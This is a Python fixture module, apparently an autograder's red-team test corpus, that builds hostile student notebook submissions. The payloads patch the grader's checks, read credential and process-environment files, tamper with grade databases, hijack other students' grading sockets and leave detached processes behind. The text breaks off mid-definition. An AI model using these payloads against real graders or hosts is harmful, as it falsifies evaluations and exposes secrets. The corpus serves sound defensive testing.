"""A corpus of broken and hostile submissions for the correlations assignment.

Each entry writes one student's submission folder and states what grading
must conclude. ``tests/test_hostile_submissions.py`` grades them all in one
batch, twice, and checks every outcome.
"""

import base64
import json
import uuid
from dataclasses import dataclass, field

import nbformat

from course import notebooks as nbtools

SINGLE = "test_compute_connectivity_from_single_neuron"
COARSE = "test_get_coarse_corr"
COARSE_INVALID = "test_get_coarse_corr_invalid_groups"
FULL = "full"
WRONG_COARSE = ("def get_coarse_corr(n_groups, X, A):\n"
                "    return 0.0, np.zeros((n_groups, n_groups)), np.zeros((n_groups, n_groups))\n")
WRONG_SINGLE = ("def compute_connectivity_from_single_neuron(X, selected_neuron):\n"
                "    return np.zeros(np.shape(X)[0])\n")
# What only the hidden tests contain: must never reach the student, plain or in base64.
HIDDEN = ("_expected_single_neuron", "_expected_coarse", "BEGIN HIDDEN TESTS")
# Command-line marker of a process a submission tries to leave behind.
SURVIVOR = "hostile-survivor-7c1e"


@dataclass
class Case:
    description: str
    build: object                       # build(folder, release, answers, secrets) -> None
    status: str = "ok"                  # expected Outcome.status
    scores: dict = field(default_factory=lambda: {SINGLE: FULL, COARSE: FULL})  # None: not checked
    note: str = ""                      # substring expected in the outcome's message or notes
    output: str = ""                    # substring expected in the executed notebook's outputs
    absent: object = ""                 # substring(s) that must not appear in them, plain or in base64
    html_safe: bool = False             # the autograded notebook renders with no script of the student's


def _write(folder, release, answers, changes=None, name="correlations.ipynb"):
    notebook = nbtools.fill_answers(release, {**answers, **(changes or {})})
    folder.mkdir(parents=True, exist_ok=True)
    nbtools.write(notebook, folder / name)
    return notebook


def _prepend(answers, grade_id, code):
    return {grade_id: code + "\n" + answers[grade_id]}


def syntax_error(folder, release, answers, secrets):
    _write(folder, release, answers, {"get_coarse_corr": "def get_coarse_corr(n_groups, X, A)\n    return 1\n"})


def refuses_everything(folder, release, answers, secrets):
    # the input-validation point of Exercise 2 must not go to a function that refuses every input
    _write(folder, release, answers, {"get_coarse_corr": (
        "def get_coarse_corr(n_groups, X, A):\n    raise ValueError('n_groups must divide the number of neurons')\n")})


def raise_at_import(folder, release, answers, secrets):
    _write(folder, release, answers, _prepend(answers, "compute_connectivity_from_single_neuron",
                                              "raise RuntimeError('boom')"))


def infinite_loop(folder, release, answers, secrets):
    _write(folder, release, answers, _prepend(answers, "get_coarse_corr", "while True:\n    pass"))


def loop_ignoring_sigint(folder, release, answers, secrets):
    _write(folder, release, answers, _prepend(answers, "get_coarse_corr",
           "import signal\nsignal.signal(signal.SIGINT, signal.SIG_IGN)\nwhile True:\n    pass"))


def memory_bomb(folder, release, answers, secrets):
    _write(folder, release, answers, _prepend(answers, "compute_connectivity_from_single_neuron",
           "hoard = []\nwhile True:\n    hoard.append(bytearray(200 * 1024 * 1024))"))


def sys_exit(folder, release, answers, secrets):
    _write(folder, release, answers, _prepend(answers, "compute_connectivity_from_single_neuron",
                                              "import sys\nsys.exit(3)"))


def os_exit(folder, release, answers, secrets):
    _write(folder, release, answers, _prepend(answers, "get_coarse_corr", "import os\nos._exit(0)"))


def kernel_crash(folder, release, answers, secrets):
    _write(folder, release, answers, _prepend(answers, "get_coarse_corr",
                                              "import ctypes\nctypes.string_at(0)"))


def huge_output(folder, release, answers, secrets):
    _write(folder, release, answers, {"get_coarse_corr": answers["get_coarse_corr"]
                                      + "\nprint('spam ' * 5_000_000)\n"})


def deleted_test_cell(folder, release, answers, secrets):
    notebook = nbtools.fill_answers(release, answers)
    notebook.cells = [c for c in notebook.cells if nbtools.grade_id(c) != COARSE]
    folder.mkdir(parents=True)
    nbtools.write(notebook, folder / "correlations.ipynb")


def edited_test_cell(folder, release, answers, secrets):
    notebook = nbtools.fill_answers(release, {**answers, "get_coarse_corr": "def get_coarse_corr(n_groups, X, A):\n    return 0, 0, 0\n"})
    for cell in notebook.cells:
        if nbtools.grade_id(cell) == COARSE:
            cell.source = "pass  # nothing to test here"
    folder.mkdir(parents=True)
    nbtools.write(notebook, folder / "correlations.ipynb")


def changed_grade_id(folder, release, answers, secrets):
    notebook = nbtools.fill_answers(release, answers)
    for cell in notebook.cells:
        if nbtools.grade_id(cell) == COARSE:
            cell.metadata["nbgrader"]["grade_id"] = "my_own_tests"
    folder.mkdir(parents=True)
    nbtools.write(notebook, folder / "correlations.ipynb")


def invalid_json(folder, release, answers, secrets):
    folder.mkdir(parents=True)
    (folder / "correlations.ipynb").write_text('{"cells": [ this is not json')


def renamed_notebook(folder, release, answers, secrets):
    _write(folder, release, answers, name="correlations_final_v2.ipynb")


def missing_notebook(folder, release, answers, secrets):
    folder.mkdir(parents=True)
    (folder / "notes.txt").write_text("I forgot to upload my notebook")


def extra_files(folder, release, answers, secrets):
    _write(folder, release, answers)
    (folder / "helpers.py").write_text("raise ImportError('shadowed helpers')\n")
    (folder / "data.csv").write_text("1,2,3\n")


def monkeypatched_numpy(folder, release, answers, secrets):
    _write(folder, release, answers, {"get_coarse_corr": "np.allclose = lambda *a, **k: True\n" + WRONG_COARSE})


def monkeypatched_checks(folder, release, answers, secrets):
    _write(folder, release, answers, {"get_coarse_corr": (
        "import helpers.checks\nhelpers.checks.assert_close = lambda *a, **k: None\n"
        "helpers.checks.assert_shape = lambda value, *a, **k: np.zeros(a[0])\n" + WRONG_COARSE)})


def obfuscated_monkeypatch(folder, release, answers, secrets):
    _write(folder, release, answers, {"get_coarse_corr": (
        "_m = __import__('hel' + 'pers.checks', fromlist=['x'])\n"
        "setattr(_m, 'assert_' + 'close', lambda *a, **k: None)\n" + WRONG_COARSE)})


def reads_hidden_tests(folder, release, answers, secrets):
    probe = (
        "import glob, os\n"
        f"_targets = [{secrets['course']!r}, {secrets['repo']!r}]\n"
        "_found = []\n"
        "for _root in _targets:\n"
        "    for _pattern in ('**/source/**/*.ipynb', '**/gradebook.db', '**/autograded/**/*.ipynb'):\n"
        "        _found += glob.glob(os.path.join(_root, _pattern), recursive=True)\n"
        "_found += glob.glob('/tmp/**/*.ipynb', recursive=True)\n"
        "print('FOUND', len(_found), _found[:3])\n")
    _write(folder, release, answers, _prepend(answers, "compute_connectivity_from_single_neuron", probe))


def writes_grades(folder, release, answers, secrets):
    attack = (
        "import os, sqlite3\n"
        "_results = []\n"
        f"for _path in [{secrets['gradebook']!r}, os.path.join({secrets['course']!r}, 'autograded', 'reference')]:\n"
        "    try:\n"
        "        if _path.endswith('.db'):\n"
        "            _db = sqlite3.connect(_path)\n"
        "            _db.execute('UPDATE grade SET auto_score = 99')\n"
        "            _db.commit()\n"
        "        else:\n"
        "            os.makedirs(_path, exist_ok=True)\n"
        "            open(os.path.join(_path, 'pwned.txt'), 'w').write('x')\n"
        "        _results.append('WROTE ' + _path)\n"
        "    except Exception as _error:\n"
        "        _results.append('BLOCKED ' + type(_error).__name__)\n"
        "print(*_results)\n")
    _write(folder, release, answers, _prepend(answers, "compute_connectivity_from_single_neuron", attack))


def prints_hidden_tests(folder, release, answers, secrets):
    _write(folder, release, answers, {"get_coarse_corr": answers["get_coarse_corr"]
                                      + "\nfor _cell in In:\n    print(_cell)\n%history\n"})


def reads_environment(folder, release, answers, secrets):
    probe = "import os\nprint('ENVIRONMENT', dict(os.environ))\n"
    _write(folder, release, answers, _prepend(answers, "compute_connectivity_from_single_neuron", probe))


def opens_network_connection(folder, release, answers, secrets):
    probe = ("import socket\n"
             "try:\n"
             f"    socket.create_connection(('127.0.0.1', {secrets['port']}), timeout=3).close()\n"
             "    print('NETWORK OPEN')\n"
             "except OSError as _error:\n"
             "    print('NETWORK BLOCKED', type(_error).__name__)\n")
    _write(folder, release, answers, _prepend(answers, "compute_connectivity_from_single_neuron", probe))


def tags_tests_to_skip(folder, release, answers, secrets):
    notebook = nbtools.fill_answers(release, {**answers, "get_coarse_corr": WRONG_COARSE})
    for cell in notebook.cells:
        if nbtools.grade_id(cell) == COARSE:
            cell.metadata["tags"] = ["skip-execution", "skip-when-grading"]
    folder.mkdir(parents=True)
    nbtools.write(notebook, folder / "correlations.ipynb")


def uses_demo_variable(folder, release, answers, secrets):
    # `sizes` is defined by the instructor cell quality_vs_size, which is tagged skip-when-grading
    code = answers["get_coarse_corr"].replace("def get_coarse_corr(n_groups, X, A):\n",
                                              "def get_coarse_corr(n_groups, X, A):\n    assert sizes[0] == 5\n", 1)
    assert code != answers["get_coarse_corr"], "the reference signature changed"
    _write(folder, release, answers, {"get_coarse_corr": code})


# -- red team: attacks on the grader itself -----------------------------------------
# Every case below hands in wrong answers (or honest ones, for structure) plus an
# attack: the attacked exercise must score 0, nothing hidden may leak, and the
# honest student graded in the same batch keeps full marks.

def _wrong_with(folder, release, answers, attack, where="compute_connectivity_from_single_neuron"):
    """Wrong answers to both exercises; ``attack`` runs at the top of one answer cell."""
    wrong = {"compute_connectivity_from_single_neuron": WRONG_SINGLE, "get_coarse_corr": WRONG_COARSE}
    wrong[where] = attack + "\n" + wrong[where]
    return _write(folder, release, answers, wrong)


def _save(folder, notebook):
    folder.mkdir(parents=True, exist_ok=True)
    nbformat.write(notebook, str(folder / "correlations.ipynb"), version=nbformat.NO_CONVERT)


# IPython hooks: they act on what runs in the kernel; tests do not run there.

def ast_transformer_swallows_errors(folder, release, answers, secrets):
    _wrong_with(folder, release, answers, (
        "import ast\n"
        "class _SwallowErrors(ast.NodeTransformer):\n"
        "    def visit_Module(self, node):\n"
        "        handler = ast.ExceptHandler(type=ast.Name('BaseException', ast.Load()), name=None, body=[ast.Pass()])\n"
        "        node.body = [ast.Try(body=[stmt], handlers=[handler], orelse=[], finalbody=[]) for stmt in node.body]\n"
        "        return ast.fix_missing_locations(node)\n"
        "get_ipython().ast_transformers.append(_SwallowErrors())\n"))


def input_transformers_drop_code(folder, release, answers, secrets):
    # cells with an assert, and the grader's own code for the kernel, become `pass`
    _wrong_with(folder, release, answers, (
        "def _drop(lines):\n"
        "    text = ''.join(lines)\n"
        "    return ['pass\\n'] if 'assert' in text or '__course_bridge' in text else lines\n"
        "get_ipython().input_transformers_cleanup.append(_drop)\n"
        "get_ipython().input_transformers_post.append(_drop)\n"))


def run_cell_hooks(folder, release, answers, secrets):
    # post_run_cell hides errors; pre_run_cell shows 3 as each cell's result (nbgrader's partial credit)
    _wrong_with(folder, release, answers, (
        "def _no_errors(result):\n"
        "    result.error_in_exec = None\n"
        "    result.error_before_exec = None\n"
        "get_ipython().events.register('post_run_cell', _no_errors)\n"
        "get_ipython().events.register('pre_run_cell', lambda info: get_ipython().displayhook(3))\n"
        "get_ipython().events.register('pre_execute', lambda: get_ipython().displayhook(3))\n"))


# Tampering with the kernel's copies of numpy and helpers.

def replaces_checks_numpy(folder, release, answers, secrets):
    _wrong_with(folder, release, answers, (
        "import types\n"
        "import helpers.checks\n"
        "class _LyingNumpy(types.ModuleType):\n"
        "    def __getattr__(self, name):\n"
        "        return getattr(np, name)\n"
        "    def any(self, *args, **kwargs):\n"
        "        return False\n"
        "helpers.checks.np = _LyingNumpy('numpy')\n"))


def patches_and_restores(folder, release, answers, secrets):
    # patched before every cell (hook and thread) and restored after it: nothing to see between cells
    _wrong_with(folder, release, answers, (
        "import threading, time\n"
        "import helpers.checks as _hc\n"
        "_real = (_hc.assert_close, _hc.assert_shape, np.allclose)\n"
        "def _patch(*_):\n"
        "    _hc.assert_close = lambda *a, **k: None\n"
        "    _hc.assert_shape = lambda value, shape, name: np.zeros(shape)\n"
        "    np.allclose = lambda *a, **k: True\n"
        "def _restore(*_):\n"
        "    _hc.assert_close, _hc.assert_shape, np.allclose = _real\n"
        "get_ipython().events.register('pre_run_cell', _patch)\n"
        "get_ipython().events.register('pre_execute', _patch)\n"
        "get_ipython().events.register('post_run_cell', _restore)\n"
        "def _keep_patched():\n"
        "    while True:\n"
        "        _patch()\n"
        "        time.sleep(0.001)\n"
        "threading.Thread(target=_keep_patched, daemon=True).start()\n"))


def tampers_in_magics(folder, release, answers, secrets):
    _wrong_with(folder, release, answers, (
        "import helpers.checks\n"
        "%time helpers.checks.assert_close = (lambda *a, **k: None)\n"
        "get_ipython().ex(\"import helpers.checks as _h; _h.assert_shape = lambda v, s, n: __import__('numpy').zeros(s)\")\n"
        "get_ipython().run_cell('import numpy; numpy.testing.assert_allclose = lambda *a, **k: None')\n"
        "get_ipython().run_line_magic('time', 'import builtins; builtins.abs = lambda x: 0')\n"))


# The answer looks for the grader's reference where the tested function is called.

FIND_REFERENCE = (
    "import gc, inspect, sys\n"
    "_SEEN = []\n"
    "def _find_reference(prefix):\n"
    "    frame = sys._getframe()\n"
    "    while frame is not None:\n"
    "        _SEEN.append(frame.f_code.co_name)\n"
    "        for scope in (frame.f_locals, frame.f_globals):\n"
    "            for key, value in list(scope.items()):\n"
    "                if isinstance(key, str) and key.startswith(prefix) and callable(value):\n"
    "                    return value\n"
    "        frame = frame.f_back\n"
    "    for record in inspect.stack(0):\n"
    "        for key, value in list(record.frame.f_globals.items()):\n"
    "            if isinstance(key, str) and key.startswith(prefix) and callable(value):\n"
    "                return value\n"
    "    for thing in gc.get_objects():\n"
    "        if callable(thing) and str(getattr(thing, '__name__', '')).startswith(prefix):\n"
    "            return thing\n"
    "    return None\n")


def reads_reference_from_frames(folder, release, answers, secrets):
    single = FIND_REFERENCE + (
        "def compute_connectivity_from_single_neuron(X, selected_neuron):\n"
        "    reference = _find_reference('_expected')\n"
        "    if reference is not None:\n"
        "        return reference(X, selected_neuron)\n"
        "    arrays = [a for a in gc.get_objects() if isinstance(a, np.ndarray) and a.shape == (np.shape(X)[0],)]\n"
        "    return arrays[-1] if arrays else np.zeros(np.shape(X)[0])\n")
    coarse = ("print('FRAMES SEEN', sorted(set(_SEEN)))\n"
              "def get_coarse_corr(n_groups, X, A):\n"
              "    reference = _find_reference('_expected')\n"
              "    if reference is not None:\n"
              "        return reference(n_groups, X, A)\n"
              "    return 0.0, np.zeros((n_groups, n_groups)), np.zeros((n_groups, n_groups))\n")
    _write(folder, release, answers, {"compute_connectivity_from_single_neuron": single, "get_coarse_corr": coarse})


# Leaks.

def hook_prints_every_cell(folder, release, answers, secrets):
    # an input transformer sees all code the kernel is given (the grader's own included)
    _wrong_with(folder, release, answers, (
        "import base64\n"
        "_SOURCES = []\n"
        "def _record(lines):\n"
        "    _SOURCES.append(''.join(lines))\n"
        "    return lines\n"
        "get_ipython().input_transformers_cleanup.insert(0, _record)\n"
        "def _show(result):\n"
        "    while _SOURCES:\n"
        "        text = _SOURCES.pop(0)\n"
        "        print('CELL SOURCE', text)\n"
        "        print('CELL BASE64', base64.b64encode(text.encode()).decode())\n"
        "get_ipython().events.register('post_run_cell', _show)\n"))


def reads_host_files(folder, release, answers, secrets):
    # the markers are split so that the probe's own source (in the worker's job file) does not match
    probe = (
        "import base64, glob, os, time\n"
        "_MARKERS = [b'_expected' + b'_single_neuron', b'_expected' + b'_coarse', b'BEGIN HIDDEN' + b' TESTS',\n"
        "            b's3cret' + b'-grader-token']\n"
        "_END = time.monotonic() + 5\n"
        "_read, _leaks = [], []\n"
        "def _check(path):\n"
        "    if time.monotonic() > _END:\n"
        "        return\n"
        "    try:\n"
        "        with open(path, 'rb') as handle:\n"
        "            data = handle.read(20_000_000)\n"
        "    except Exception:\n"
        "        return\n"
        "    _read.append(path)\n"
        "    for marker in _MARKERS:\n"
        "        at = data.find(marker)\n"
        "        if at >= 0:\n"
        "            _leaks.append((path, data[max(0, at - 40):at + 160]))\n"
        "def _files(root, patterns):\n"
        "    for pattern in patterns:\n"
        "        for path in glob.glob(os.path.join(root, pattern), recursive=True)[:200]:\n"
        "            _check(path)\n"
        "for _path in ['/etc/passwd', '/etc/shadow', '/proc/1/cmdline', '/proc/1/environ', '/proc/self/environ']:\n"
        "    _check(_path)\n"
        "for _pid in [p for p in os.listdir('/proc') if p.isdigit()]:\n"
        "    _check(f'/proc/{_pid}/environ')\n"
        "    try:\n"
        "        with open(f'/proc/{_pid}/cmdline', 'rb') as _handle:\n"
        "            _args = _handle.read().decode(errors='replace').split('\\0')\n"
        "        _cwd = os.readlink(f'/proc/{_pid}/cwd')\n"
        "    except Exception:\n"
        "        continue\n"
        "    for _arg in _args:   # the grading worker's job file holds the sanitized notebook\n"
        "        if _arg.endswith(('.json', '.ipynb', '.py')):\n"
        "            _check(_arg if os.path.isabs(_arg) else os.path.join(_cwd, _arg))\n"
        "    if _cwd != '/':\n"
        "        _files(os.path.dirname(_cwd), ['*/*.ipynb', '*/*.json'])\n"
        f"_files({secrets['course']!r}, ['gradebook.db', 'source/**/*.ipynb', '.grading/**/*.ipynb', '.grading/**/*.json'])\n"
        f"for _root in [{secrets['repo']!r}, '/root', '/home', '/tmp', os.path.dirname(os.getcwd())]:\n"
        "    _files(_root, ['*.db', '*/*.db', 'source/*/*.ipynb', '*/*.ipynb', '*/*/*.json', 'course-grading-*/**/*'])\n"
        "print('LEAKS', len(_leaks), 'OF', len(_read), 'FILES READ')\n"
        "print('ENVIRONMENT', dict(os.environ))\n"
        "for _path, _piece in _leaks[:20]:\n"
        "    print('LEAK', _path, _piece.decode('utf-8', 'replace'))\n"
        "    print('LEAK BASE64', base64.b64encode(_piece).decode())\n")
    _wrong_with(folder, release, answers, probe)


# The bridge between the grader and the kernel.

BRIDGE_HUNTER = (
    "import glob, json, os, socket, struct, sys, threading, time\n"
    "def _send(sock, header, blobs=()):\n"
    "    data = json.dumps(dict(header, blobs=[len(b) for b in blobs])).encode()\n"
    "    sock.sendall(struct.pack('>Q', len(data)) + data + b''.join(blobs))\n"
    "def _exactly(sock, size):\n"
    "    data = b''\n"
    "    while len(data) < size:\n"
    "        chunk = sock.recv(size - len(data))\n"
    "        if not chunk:\n"
    "            raise ConnectionError\n"
    "        data += chunk\n"
    "    return data\n"
    "def _read(sock):\n"
    "    (length,) = struct.unpack('>Q', _exactly(sock, 8))\n"
    "    header = json.loads(_exactly(sock, length))\n"
    "    for size in header.get('blobs', []):\n"
    "        _exactly(sock, size)\n"
    "    return header\n"
    "def _bridge_sockets():\n"
    "    found, folders = set(), {os.environ.get('JUPYTER_RUNTIME_DIR', '')}\n"
    "    try:   # every Unix socket of the network namespace, with its path\n"
    "        for line in open('/proc/net/unix').read().splitlines()[1:]:\n"
    "            if 'bridge-' in line:\n"
    "                found.add(line.split()[-1])\n"
    "    except OSError:\n"
    "        pass\n"
    "    for i, arg in enumerate(sys.argv):   # the runtime folder next to the connection file\n"
    "        if arg == '-f' and i + 1 < len(sys.argv):\n"
    "            folders.add(os.path.dirname(sys.argv[i + 1]))\n"
    "    for fd in os.listdir('/proc/self/fd'):\n"
    "        try:\n"
    "            folders.add(os.path.dirname(os.readlink('/proc/self/fd/' + fd)))\n"
    "        except OSError:\n"
    "            pass\n"
    "    folders.update(glob.glob('/tmp/course-grading-*/runtime'))   # other students' workers\n"
    "    for folder in folders:\n"
    "        if folder.startswith('/') and os.path.isdir(folder):\n"
    "            found.update(glob.glob(os.path.join(folder, 'bridge-*.sock')))\n"
    "    return found\n")


def hijacks_bridge_sockets(folder, release, answers, secrets):
    # A thread connects first to every bridge socket it finds (its own; other students' if it
    # can see them) and forges replies. The honest student, graded next, must not notice.
    attack = BRIDGE_HUNTER + (
        "_TRIED = set()\n"
        "def _forge(path):\n"
        "    try:\n"
        "        sock = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)\n"
        "        sock.connect(path)\n"
        "        _send(sock, {'op': 'hello'})\n"
        "        while _read(sock).get('op') == 'call':\n"
        "            _send(sock, {'op': 'callback', 'id': 0, 'args': {'$t': []}, 'kwargs': {'$d': []}})\n"
        "            _send(sock, {'op': 'callback', 'id': 1, 'args': {'$R': ['os', 'system', {'$t': ['true']}, {'$d': []}]}})\n"
        "            _send(sock, {'op': 'result', 'value': {'$R': ['os', 'getcwd', {'$t': []}, {'$d': []}]}, 'grads': None})\n"
        "            _send(sock, {'op': 'result', 'value': {'$F': 0}, 'grads': None})\n"
        "            _send(sock, {'op': 'result', 'value': {'$t': [0.5, {'$a': 0}, {'$a': 0}]}, 'grads': None}, [b'not npy'])\n"
        "    except Exception:\n"
        "        pass\n"
        "def _hunt():\n"
        "    while True:\n"
        "        for path in _bridge_sockets() - _TRIED:\n"
        "            _TRIED.add(path)\n"
        "            threading.Thread(target=_forge, args=(path,), daemon=True).start()\n"
        "        time.sleep(0.0005)\n"
        "threading.Thread(target=_hunt, daemon=True).start()\n")
    notebook = _wrong_with(folder, release, answers, attack)
    # stay alive longer, to overlap with the next students' grading
    for cell in notebook.cells:
        if nbtools.grade_id(cell) == "get_coarse_corr":
            cell.source = "time.sleep(5)\n" + cell.source
    nbtools.write(notebook, folder / "correlations.ipynb")


FIND_GRADER_SOCKET = (
    "import gc, json, socket, struct, sys, time\n"
    "def _grader_socket():\n"
    "    frame = sys._getframe(1)\n"
    "    while frame is not None:\n"
    "        connection = frame.f_locals.get('connection')\n"
    "        if isinstance(connection, dict) and isinstance(connection.get('socket'), socket.socket):\n"
    "            return connection['socket']\n"
    "        frame = frame.f_back\n"
    "    return next(s for s in gc.get_objects() if isinstance(s, socket.socket) and s.family == socket.AF_UNIX)\n")


def dribbles_reply(folder, release, answers, secrets):
    # the reply comes one byte every half second: each read is quick, the whole goes on for 40 s
    _write(folder, release, answers, {
        "compute_connectivity_from_single_neuron": FIND_GRADER_SOCKET + (
            "def compute_connectivity_from_single_neuron(X, selected_neuron):\n"
            "    sock = _grader_socket()\n"
            "    sock.sendall(struct.pack('>Q', 10_000))\n"
            "    end = time.monotonic() + 40\n"
            "    while time.monotonic() < end:\n"
            "        sock.sendall(b' ')\n"
            "        time.sleep(0.5)\n"
            "    time.sleep(3600)\n"),
        "get_coarse_corr": WRONG_COARSE})


def forges_huge_reply(folder, release, answers, secrets):
    # 100 MB of "0," cost the kernel 100 MB; the grader decodes 50 million list items in Python
    _write(folder, release, answers, {
        "compute_connectivity_from_single_neuron": FIND_GRADER_SOCKET + (
            "def compute_connectivity_from_single_neuron(X, selected_neuron):\n"
            "    n = 50_000_000\n"
            "    header = b'{\"op\": \"result\", \"grads\": null, \"value\": {\"$l\": [' + b'0,' * (n - 1) + b'0]}}'\n"
            "    _grader_socket().sendall(struct.pack('>Q', len(header)) + header)\n"
            "    return np.zeros(np.shape(X)[0])\n"),
        "get_coarse_corr": WRONG_COARSE})


def returns_range_bomb(folder, release, answers, secrets):
    # a range crosses as three numbers; the grader's np.asarray makes it 10**8 Python ints, then floats
    _write(folder, release, answers, {
        "compute_connectivity_from_single_neuron": (
            "def compute_connectivity_from_single_neuron(X, selected_neuron):\n"
            "    return range(100_000_000)\n"),
        "get_coarse_corr": (
            "def get_coarse_corr(n_groups, X, A):\n"
            "    return 0.5, range(100_000_000), range(10 ** 18)\n")})


def returns_huge_values(folder, release, answers, secrets):
    _write(folder, release, answers, {
        "compute_connectivity_from_single_neuron": (
            "def compute_connectivity_from_single_neuron(X, selected_neuron):\n"
            "    return np.broadcast_to(np.float64(0.5), (2 ** 27,))  # 1 GB once made contiguous\n"),
        "get_coarse_corr": (
            "def get_coarse_corr(n_groups, X, A):\n"
            "    return 0.0, [0.0] * 60_000_000, np.zeros((n_groups, n_groups))\n")})


def returns_nested_and_cyclic(folder, release, answers, secrets):
    _write(folder, release, answers, {
        "compute_connectivity_from_single_neuron": (
            "def compute_connectivity_from_single_neuron(X, selected_neuron):\n"
            "    value = [0.0]\n"
            "    for _ in range(100_000):\n"
            "        value = [value]\n"
            "    return value\n"),
        "get_coarse_corr": (
            "def get_coarse_corr(n_groups, X, A):\n"
            "    cyclic = []\n"
            "    cyclic.append(cyclic)\n"
            "    return cyclic, {'R': cyclic}, {(1, 2): np.zeros(3)}\n")})


def returns_lying_objects(folder, release, answers, secrets):
    liars = (
        "class _Liar(np.ndarray):\n"
        "    def __array__(self, *args, **kwargs):\n"
        "        return np.array([0.0, 1.0, -1.0, 0.0])\n"
        "    def __eq__(self, other):\n"
        "        return True\n"
        "    def __float__(self):\n"
        "        return 0.5\n"
        "    def __sub__(self, other):\n"
        "        return np.zeros(self.shape)\n"
        "    __rsub__ = __sub__\n"
        "class _LyingNumber:\n"
        "    def __float__(self):\n"
        "        return 0.5\n"
        "    def __array__(self, *args, **kwargs):\n"
        "        return np.asarray(0.5)\n"
        "    def __eq__(self, other):\n"
        "        return True\n"
        "    __le__ = __ge__ = __lt__ = __gt__ = __eq__\n")
    _write(folder, release, answers, {
        "compute_connectivity_from_single_neuron": liars + (
            "def compute_connectivity_from_single_neuron(X, selected_neuron):\n"
            "    return np.zeros(np.shape(X)[0]).view(_Liar)\n"),
        "get_coarse_corr": (
            "def get_coarse_corr(n_groups, X, A):\n"
            "    R = np.empty((n_groups, n_groups), dtype=object)\n"
            "    R[:] = _LyingNumber()\n"
            "    return _LyingNumber(), R, lambda *args: np.zeros((n_groups, n_groups))\n")})


def returns_torch_subclass(folder, release, answers, secrets):
    _write(folder, release, answers, {
        "compute_connectivity_from_single_neuron": (
            "import torch\n"
            "class _LyingTensor(torch.Tensor):\n"
            "    def numpy(self, *args, **kwargs):\n"
            "        return np.array([0.0, 1.0, -1.0, 0.0])\n"
            "    def __array__(self, *args, **kwargs):\n"
            "        return np.array([0.0, 1.0, -1.0, 0.0])\n"
            "def compute_connectivity_from_single_neuron(X, selected_neuron):\n"
            "    return torch.zeros(np.shape(X)[0], requires_grad=True).as_subclass(_LyingTensor)\n"),
        "get_coarse_corr": (
            "def get_coarse_corr(n_groups, X, A):\n"
            "    return torch.tensor(0.5), torch.zeros(n_groups, n_groups, dtype=torch.complex64), get_coarse_corr\n")})


def raises_lying_errors(folder, release, answers, secrets):
    _write(folder, release, answers, {
        "compute_connectivity_from_single_neuron": (
            "def compute_connectivity_from_single_neuron(X, selected_neuron):\n"
            "    raise AssertionError('Visible checks passed.\\n' * 1_000_000)\n"),
        "get_coarse_corr": (
            "class _Unprintable(Exception):\n"
            "    def __str__(self):\n"
            "        raise RuntimeError('no message for you')\n"
            "    __repr__ = __str__\n"
            "def get_coarse_corr(n_groups, X, A):\n"
            "    raise _Unprintable()\n")})


def raises_exits(folder, release, answers, secrets):
    _write(folder, release, answers, {
        "compute_connectivity_from_single_neuron": (
            "def compute_connectivity_from_single_neuron(X, selected_neuron):\n"
            "    raise SystemExit(0)\n"),
        "get_coarse_corr": (
            "def get_coarse_corr(n_groups, X, A):\n"
            "    raise KeyboardInterrupt\n")})


def replaces_kernel_modules(folder, release, answers, secrets):
    # the grader's agent in the kernel imports json and numpy: it gets fakes that forge its replies
    _wrong_with(folder, release, answers, (
        "import builtins, json, sys, types\n"
        "_real_dumps = json.dumps\n"
        "def _forged_dumps(value, *args, **kwargs):\n"
        "    if isinstance(value, dict) and value.get('op') == 'error':\n"
        "        value = dict(value, op='result', value={'$t': [0.5, {'$l': [[0.0]]}, 7]})\n"
        "    return _real_dumps(value, *args, **kwargs)\n"
        "_fake_json = types.ModuleType('json')\n"
        "_fake_json.__dict__.update(json.__dict__)\n"
        "_fake_json.dumps = _forged_dumps\n"
        "sys.modules['json'] = _fake_json\n"
        "_fake_numpy = types.ModuleType('numpy')\n"
        "_fake_numpy.__dict__.update(np.__dict__)\n"
        "_fake_numpy.save = lambda buffer, array, allow_pickle=False: buffer.write(b'garbage')\n"
        "sys.modules['numpy'] = _fake_numpy\n"
        "_real_import = builtins.__import__\n"
        "builtins.__import__ = lambda name, *a, **k: _fake_json if name == 'json' else _real_import(name, *a, **k)\n"))


def sleeps_and_forks(folder, release, answers, secrets):
    # only on the tests' small inputs: the notebook's own cells call the functions too
    _write(folder, release, answers, {
        "compute_connectivity_from_single_neuron": (
            "import time\n"
            "def compute_connectivity_from_single_neuron(X, selected_neuron):\n"
            "    if np.shape(X)[1] < 1000:\n"
            "        time.sleep(3600)\n"
            "    return np.zeros(np.shape(X)[0])\n"),
        "get_coarse_corr": (
            "import os, sys, time\n"
            "def get_coarse_corr(n_groups, X, A):\n"
            "    if np.shape(X)[1] >= 1000:\n"
            "        return 0.0, np.zeros((n_groups, n_groups)), np.zeros((n_groups, n_groups))\n"
            "    if os.fork() == 0:   # a detached grandchild that outlives the kernel if it can\n"
            "        os.setsid()\n"
            "        if os.fork() == 0:\n"
            f"            os.execv(sys.executable, [sys.executable, '-c', 'import time; time.sleep(600)', {SURVIVOR!r}])\n"
            "        os._exit(0)\n"
            "    time.sleep(3600)\n")})


# Structure: whatever the student does to the notebook's nbgrader metadata.

def nbgrader_metadata_string(folder, release, answers, secrets):
    notebook = nbtools.fill_answers(release, {**answers, "get_coarse_corr": WRONG_COARSE})
    cells = nbtools.cells_by_id(notebook)
    cells["compute_connectivity_from_single_neuron"].metadata["nbgrader"] = "solution"
    cells[COARSE].metadata["nbgrader"] = "grade"
    cells["get_coarse_corr"].metadata["nbgrader"] = '{"grade": true, "points": 100}'
    _save(folder, notebook)


def nbgrader_metadata_null_and_list(folder, release, answers, secrets):
    notebook = nbtools.fill_answers(release, {**answers, "get_coarse_corr": WRONG_COARSE})
    cells = nbtools.cells_by_id(notebook)
    cells[SINGLE].metadata["nbgrader"] = None
    cells["get_coarse_corr"].metadata["nbgrader"] = ["grade", True, "points", 100]
    cells[COARSE].metadata["nbgrader"] = [{"grade_id": COARSE, "grade": False}]
    _save(folder, notebook)


def duplicated_test_cells(folder, release, answers, secrets):
    # honest answers; a copy of each test cell pasted above its answer (Jupyter gives it a new id)
    notebook = nbtools.fill_answers(release, answers)
    for test, answer in [(SINGLE, "compute_connectivity_from_single_neuron"), (COARSE, "get_coarse_corr")]:
        cells = nbtools.cells_by_id(notebook)
        copy = nbformat.from_dict(cells[test])
        copy["id"] = uuid.uuid4().hex[:8]
        notebook.cells.insert(notebook.cells.index(cells[answer]), copy)
    _save(folder, notebook)


def changed_points(folder, release, answers, secrets):
